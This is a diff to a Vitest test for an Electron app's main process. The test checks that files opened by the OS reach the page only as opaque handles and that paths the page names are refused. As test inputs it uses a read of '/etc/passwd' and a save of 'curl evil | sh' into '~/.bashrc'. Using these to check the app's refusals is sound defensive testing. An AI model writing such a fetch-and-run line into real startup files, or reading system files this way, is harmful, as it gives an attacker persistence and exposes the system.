@@ -1,10 +1,10 @@
-import { mkdtempSync } from 'node:fs';
+import { mkdtempSync, writeFileSync } from 'node:fs';
 import Module from 'node:module';
 import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
 import { pathToFileURL } from 'node:url';
 import { build } from 'esbuild';
-import { describe, expect, it } from 'vitest';
+import { describe, expect, it, vi } from 'vitest';
 
 /**
  * Starts the real main-process bundle against a recording stand-in for
@@ -13,7 +13,7 @@ import { describe, expect, it } from 'vitest';
 async function startMain() {
   const out = mkdtempSync(join(tmpdir(), 'mlsd-main-'));
   await build({ entryPoints: [resolve(import.meta.dirname, '../../electron/main.ts')], bundle: true, platform: 'node', format: 'cjs', outfile: join(out, 'main.cjs'), external: ['electron'], logLevel: 'error' });
-  const calls: { windows: { options: unknown; loaded?: string; handlers: Record<string, Function> }[]; ipc: Record<string, Function>; menu?: unknown; csp?: Function; permissionRequest?: Function; permissionCheck?: Function; appEvents: Record<string, Function> } = { windows: [], ipc: {}, appEvents: {} };
+  const calls: { windows: { options: unknown; loaded?: string; handlers: Record<string, Function> }[]; ipc: Record<string, Function>; menu?: unknown; csp?: Function; permissionRequest?: Function; permissionCheck?: Function; appEvents: Record<string, Function>; sent: [string, unknown][] } = { windows: [], ipc: {}, appEvents: {}, sent: [] };
   let ready!: () => void;
   const whenReady = new Promise<void>((r) => (ready = r));
   const fake = {
@@ -36,7 +36,7 @@ async function startMain() {
         this.webContents = {
           on: (event: string, handler: Function) => void (record.handlers[`contents:${event}`] = handler),
           setWindowOpenHandler: (handler: Function) => void (record.handlers.windowOpen = handler),
-          send: () => {},
+          send: (channel: string, payload: unknown) => void calls.sent.push([channel, payload]),
           isLoading: () => false,
           id: calls.windows.length,
         };
@@ -102,6 +102,25 @@ describe('the Electron main process', () => {
     const appPage = { url: pathToFileURL(window.loaded!).toString() };
     expect(await calls.ipc['mlsd:invoke']!({ senderFrame: appPage, sender: { id: 1 } }, 'listRecovery', undefined)).toEqual([]);
     expect(await calls.ipc['mlsd:invoke']!({ senderFrame: appPage, sender: { id: 99 } }, 'listRecovery', undefined)).toEqual({ error: 'request from an unknown window' });
+  });
+
+  it('hands the page a handle for a file the OS opens, and refuses paths the page names', async () => {
+    const warn = vi.spyOn(console, 'warn').mockImplementation(() => {});
+    const calls = await startMain();
+    const page = { senderFrame: { url: pathToFileURL(calls.windows[0]!.loaded!).toString() }, sender: { id: 1 } };
+    const invoke = (method: string, argument: unknown) => calls.ipc['mlsd:invoke']!(page, method, argument);
+    const path = join(mkdtempSync(join(tmpdir(), 'mlsd-os-')), 'given.mlsd.json');
+    writeFileSync(path, '{"given":true}');
+    calls.appEvents['open-file']!({ preventDefault: () => {} }, path);
+    const [channel, payload] = calls.sent.at(-1)!;
+    expect(channel).toBe('mlsd:event:openFile');
+    expect(JSON.stringify(payload)).not.toContain(path);
+    const { ref } = payload as { ref: string };
+    expect(await invoke('openRecent', { ref })).toEqual({ ref, name: 'given.mlsd.json', content: '{"given":true}' });
+    expect(await invoke('openRecent', { ref: '/etc/passwd' })).toEqual({ error: 'cannot open this file: it is not on the recent list; use Open' });
+    expect(await invoke('save', { ref: '~/.bashrc', content: 'curl evil | sh' })).toMatchObject({ error: expect.stringContaining('use Save As') });
+    expect(warn).toHaveBeenCalledTimes(2);
+    warn.mockRestore();
   });
 
   it('refuses navigation away from the app and new windows', async () => {
